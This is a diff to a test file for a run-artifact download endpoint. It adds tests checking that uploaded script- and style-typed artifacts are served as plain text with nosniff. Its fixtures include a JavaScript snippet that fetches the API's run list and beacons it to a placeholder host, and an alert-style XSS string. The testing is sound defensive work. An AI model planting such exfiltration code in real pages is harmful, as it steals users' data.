@@ -32,6 +32,11 @@ describe('GET /v1/runs/:source/:run/artifact/*path', () => {
     artifacts.put('local', 'r000001', { path: 'checks/test output.log', content_type: 'text/plain; charset=utf-8', content: Buffer.from('ok\n') });
     artifacts.put('local', 'r000001', { path: 'report.html', content_type: 'text/html', content: Buffer.from('<script>alert(1)</script>') });
     artifacts.put('local', 'r000001', { path: 'bundle.tar', content_type: 'application/x-tar', content: Buffer.from([0, 1, 2]) });
+    const script = Buffer.from('fetch("/v1/runs").then((r) => r.text()).then((t) => navigator.sendBeacon("//x", t))');
+    for (const [path, type] of [['evil.js', 'text/javascript; charset=utf-8'], ['evil.mjs', 'application/javascript'],
+      ['evil.es', 'application/x-ecmascript'], ['evil.css', 'text/css']]) {
+      artifacts.put('local', 'r000001', { path: path!, content_type: type!, content: script });
+    }
   });
   after(() => cp.close());
 
@@ -74,6 +79,16 @@ describe('GET /v1/runs/:source/:run/artifact/*path', () => {
       assert.equal(res.status, 200);
       assert.equal(res.headers.get('content-security-policy'), "default-src 'none'; sandbox");
       assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
+    });
+
+    it('serves an artifact typed as script or style as plain text: no page of ours can load it as one', async () => {
+      // <script src> and <link rel=stylesheet> ignore the disposition and the sandbox CSP: only the type stops them.
+      for (const path of ['evil.js', 'evil.mjs', 'evil.es', 'evil.css']) {
+        const res = await cp.request('GET', `${base}/${path}`);
+        assert.equal(res.status, 200);
+        assert.equal(res.headers.get('content-type'), 'text/plain; charset=utf-8', path);
+        assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
+      }
     });
 
     it('sends artifacts Cache-Control: no-store so no browser or proxy keeps a copy', async () => {
